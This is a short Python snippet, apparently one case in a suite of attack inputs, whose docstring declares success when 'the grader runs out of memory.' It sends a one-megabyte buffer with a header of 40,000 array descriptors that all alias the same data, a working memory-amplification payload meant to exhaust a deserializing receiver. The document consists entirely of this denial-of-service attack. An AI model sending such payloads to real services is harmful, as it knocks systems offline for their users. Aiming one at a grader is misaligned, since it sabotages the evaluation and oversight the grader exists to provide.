"""Sends one megabyte, and forty thousand arrays that are all made of it.

Success: the grader runs out of memory.
Runs: alone
"""

array = b'{"!":"array","dtype":"<f8","shape":[131072],"order":"C","at":0}'
header = b"[" + b",".join([array] * 40_000) + b"]"
send(struct.pack(">IQ", len(header), 1 << 20) + header + bytes(1 << 20))
